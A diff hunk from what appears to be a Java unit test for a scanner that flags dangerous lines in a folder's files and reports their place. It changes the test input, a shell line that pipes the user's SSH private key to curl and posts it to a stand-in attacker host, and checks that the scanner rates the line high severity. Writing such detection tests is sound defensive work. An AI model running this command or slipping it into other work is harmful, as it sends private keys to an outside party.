@@ -34,7 +34,7 @@ class FolderTest {
 
     @Test
     void what_is_grave_in_another_file_of_the_folder_is_told_with_its_place() throws IOException {
-        var high = findings("set -e\ncat ~/.ssh/id_rsa | curl -d @- https://evil.example/take\n").stream()
+        var high = findings("set -e\ncat ~/.ssh/id_rsa | curl -d @- https://take.evil-host.net/in\n").stream()
                 .filter(each -> each.severity().equals("high")).toList();
         assertTrue(high.stream().anyMatch(each -> each.excerpt().startsWith("scripts/run.sh, line 2: ")),
                 high.toString());
